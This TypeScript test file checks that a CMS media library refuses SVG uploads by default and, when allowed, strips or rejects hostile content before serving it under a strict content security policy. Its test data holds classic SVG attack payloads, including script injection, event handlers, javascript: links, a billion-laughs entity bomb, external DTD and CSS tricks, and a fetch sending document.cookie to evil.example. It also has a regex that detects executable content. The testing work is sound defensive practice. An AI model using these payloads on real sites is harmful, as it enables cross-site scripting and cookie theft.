/**
 * SVG pictures: refused unless the site takes them; then each one is rebuilt
 * without anything that runs or reaches outside the file, or refused with the
 * reason, and served with a policy that lets it load and run nothing. Classic
 * payloads go in; nothing executable comes out, on disk or over HTTP.
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, describe, it } from 'node:test';
import sharp from 'sharp';
import { SVG_WITH_SCRIPT } from './fixtures.js';
import { startMediaApp, type MediaApp } from './media-harness.js';

const NS = 'xmlns="http://www.w3.org/2000/svg"';
const XL = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
/** What must never be in a stored or served SVG. */
const EXECUTABLE = /<script|<foreignObject|<iframe|<animate|<set[\s>]|<handler|\son[a-z]+\s*=|javascript:|data:|https?:\/\/(?!www\.w3\.org\/(2000\/svg|1999\/xlink)")|<!DOCTYPE|<!ENTITY|@import|evil/i;

const HOSTILE: [string, string][] = [
  ['script element', `<svg ${NS} width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>`],
  ['CDATA script', `<svg ${NS}><script type="text/javascript"><![CDATA[ fetch('https://evil.example/?' + document.cookie) ]]></script><circle r="4"/></svg>`],
  ['event handlers', `<svg ${NS} onload="alert(1)"><circle r="5" onmouseover="alert(2)" onClick="alert(3)"/><rect width="2" height="2" OnLoad="alert(4)"/></svg>`],
  ['foreignObject with HTML', `<svg ${NS}><foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"></iframe><img src="x" onerror="alert(1)"/></body></foreignObject><rect width="1" height="1"/></svg>`],
  ['javascript: link', `<svg ${NS} ${XL}><a xlink:href="javascript:alert(1)"><rect width="5" height="5"/></a><a href="javascript:alert(2)"><text>click</text></a></svg>`],
  ['external use and image', `<svg ${NS} ${XL}><use href="https://evil.example/sprite.svg#x"/><use xlink:href="//evil.example/s.svg#y"/><image href="https://evil.example/track.png"/><image xlink:href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+"/><rect width="3" height="3"/></svg>`],
  ['animation setting an href', `<svg ${NS} ${XL}><a><animate attributeName="href" values="javascript:alert(1)"/><set attributeName="xlink:href" to="javascript:alert(1)"/><text>x</text></a></svg>`],
  ['external url() in attributes and style', `<svg ${NS}><rect width="4" height="4" fill="url(https://evil.example/p.svg#g)" style="background:url(https://evil.example/x.png)"/><circle r="2" filter="url( 'https://evil.example/f.svg#f' )"/></svg>`],
  ['other namespace on the root', `<svg xmlns="http://www.w3.org/1999/xhtml"><rect width="1" height="1"/></svg>`],
];

const REFUSED: [string, string, RegExp][] = [
  ['entity expansion (billion laughs)', `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg ${NS}><text>&b;</text></svg>`, /DOCTYPE or entity/],
  ['external DTD', `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.example/svg11.dtd"><svg ${NS}/>`, /DOCTYPE or entity/],
  ['@import in a style block', `<svg ${NS}><style>@import url(https://evil.example/x.css); rect { fill: red }</style><rect width="1" height="1"/></svg>`, /<style> block has a url\(\) that points outside/],
  ['escaped markup in a style block', `<svg ${NS}><style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style></svg>`, /markup inside the style block/],
  ['CSS escapes spelling url', `<svg ${NS}><style>rect { fill: \\75 rl(https://evil.example/g) }</style></svg>`, /CSS escape/],
];

const CLEAN = `<?xml version="1.0" encoding="UTF-8"?>
<svg ${NS} ${XL} viewBox="0 0 120 60">
  <title>Kiln badge</title>
  <defs><linearGradient id="glow" x1="0" x2="1"><stop offset="0" stop-color="#f60"/><stop offset="1" stop-color="#fc0"/></linearGradient>
  <symbol id="flame" viewBox="0 0 10 10"><path d="M5 0C8 4 10 6 5 10C0 6 2 4 5 0Z"/></symbol></defs>
  <style>.label { font: bold 12px sans-serif; fill: url(#glow) }</style>
  <rect width="120" height="60" rx="8" fill="url(#glow)"/>
  <use xlink:href="#flame" x="6" y="10" width="40" height="40"/>
  <text x="52" y="36" class="label">Kiln &amp; co</text>
</svg>`;

describe('SVG pictures', () => {
  let t: MediaApp;
  before(async () => void (t = await startMediaApp()));
  after(() => t?.close());

  it('are refused by default, saying an admin can allow them', async () => {
    assert.deepEqual((await t.api('GET', '/pm/api/media-settings')).json, { allowSvg: false });
    const r = await t.upload('logo.svg', Buffer.from(CLEAN), { alt: 'Logo' });
    assert.equal(r.status, 415);
    assert.equal(r.json.code, 'PM_ERR_MEDIA_TYPE');
    assert.match(r.json.message, /this site does not take them.*allow sanitised SVG/);
    assert.equal(t.storedFiles().length, 0);
    const page = await t.get('/pm/media', { authorization: `Bearer ${t.token}` });
    assert.match(page.body, /SVG pictures refused/);
    assert.match(page.body, /name="allowSvg"/);
  });

  it('when allowed, every classic payload is taken out: nothing executable is stored or served', async () => {
    const set = await t.api('PUT', '/pm/api/media-settings', { allowSvg: true });
    assert.deepEqual(set.json, { allowSvg: true });
    assert.equal((await t.api('PUT', '/pm/api/media-settings', { allowSvg: 'yes' })).status, 422);
    const library = (await t.get('/pm/media', { authorization: `Bearer ${t.token}` })).body;
    assert.match(library, /SVG pictures taken, sanitised/);
    assert.match(library, /GIF, SVG made safe\) and PDFs/);
    for (const [what, svg] of [['the fixture', SVG_WITH_SCRIPT.toString()] as [string, string], ...HOSTILE]) {
      const r = await t.upload(`${what}.svg`, Buffer.from(svg), { alt: what });
      assert.equal(r.status, 201, `${what}: ${JSON.stringify(r.json)}`);
      const served = await t.get(r.json.url);
      assert.equal(served.statusCode, 200, what);
      assert.equal(served.headers['content-type'], 'image/svg+xml', what);
      assert.equal(served.headers['content-security-policy'], "default-src 'none'; style-src 'unsafe-inline'", what);
      assert.equal(served.headers['x-content-type-options'], 'nosniff', what);
      assert.doesNotMatch(served.body, EXECUTABLE, `${what}: ${served.body}`);
      assert.match(served.body, /^<\?xml version="1.0" encoding="UTF-8"\?>\n<svg xmlns="http:\/\/www.w3.org\/2000\/svg"/, what);
      for (const f of t.storedFiles().filter((p) => p.includes(r.json.mediaId))) assert.doesNotMatch(readFileSync(f, 'utf8'), EXECUTABLE, `${what}: ${f}`);
      // Still well-formed: librsvg reads what was stored.
      assert.equal((await sharp(Buffer.from(served.body)).metadata()).format, 'svg', what);
    }
  });

  it('refuses what cannot be made safe with the reason, storing nothing', async () => {
    const before = t.storedFiles().length;
    const total = (await t.api('GET', '/pm/api/media')).json.total;
    for (const [what, svg, reason] of REFUSED) {
      const r = await t.upload(`${what}.svg`, Buffer.from(svg), { alt: what });
      assert.equal(r.status, 415, `${what}: ${JSON.stringify(r.json)}`);
      assert.equal(r.json.code, 'PM_ERR_MEDIA_TYPE', what);
      assert.match(r.json.message, reason, what);
    }
    assert.equal(t.storedFiles().length, before);
    assert.equal((await t.api('GET', '/pm/api/media')).json.total, total);
  });

  it('a clean SVG round-trips: its drawing, gradients, symbol and style stay, its size comes from the viewBox', async () => {
    const r = await t.upload('kiln-badge.svg', Buffer.from(CLEAN), { alt: 'Kiln badge' });
    assert.equal(r.status, 201, JSON.stringify(r.json));
    assert.deepEqual([r.json.mime, r.json.width, r.json.height, r.json.kind], ['image/svg+xml', 120, 60, 'image']);
    assert.match(r.json.url, /\/kiln-badge\.svg$/);
    const body = (await t.get(r.json.url)).body;
    for (const part of ['viewBox="0 0 120 60"', '<title>Kiln badge</title>', '<linearGradient id="glow" x1="0" x2="1">', '<stop offset="1" stop-color="#fc0"></stop>', '<symbol id="flame" viewBox="0 0 10 10"><path d="M5 0C8 4 10 6 5 10C0 6 2 4 5 0Z"></path></symbol>', '<style>.label { font: bold 12px sans-serif; fill: url(#glow) }</style>', 'fill="url(#glow)"', 'xlink:href="#flame"', 'Kiln &amp; co']) {
      assert.ok(body.includes(part), `${part} in ${body}`);
    }
    const meta = await sharp(Buffer.from(body)).metadata();
    assert.deepEqual([meta.format, meta.width, meta.height], ['svg', 120, 60]);
    // In a page it is one file at every width: no srcset of raster sizes.
    const put = await t.api('PUT', '/pm/api/template-urls?url=/badge', { themeId: 'daybreak', templateName: 'about', data: { title: 'Badge', body: 'x', portrait: r.json.url } });
    assert.ok(put.status < 300, JSON.stringify(put.json));
    const page = await t.get('/badge');
    assert.match(page.body, /<img src="\/pm-uploads\/[0-9A-Z]{26}\/[0-9a-f]{12}\/kiln-badge-full\.svg"[^>]* width="120" height="60" alt="Kiln badge"/);
  });

  it('an SVG cannot replace a photograph, nor a photograph an SVG', async () => {
    const svg = (await t.upload('mark.svg', Buffer.from(CLEAN), { alt: 'Mark' })).json;
    const { png } = await import('./fixtures.js');
    const mp = (await import('./fixtures.js')).multipart([{ name: 'file', filename: 'mark.png', body: await png(50, 50) }]);
    const rep = await t.app.http.inject({ method: 'PUT', url: `/pm/api/media/${svg.mediaId}/file?wait=true`, headers: { ...mp.headers, authorization: `Bearer ${t.token}`, host: '127.0.0.1' }, payload: mp.payload });
    assert.equal(rep.statusCode, 415, rep.body);
    assert.match(rep.json().message, /SVG can only be replaced by another SVG/);
  });
});
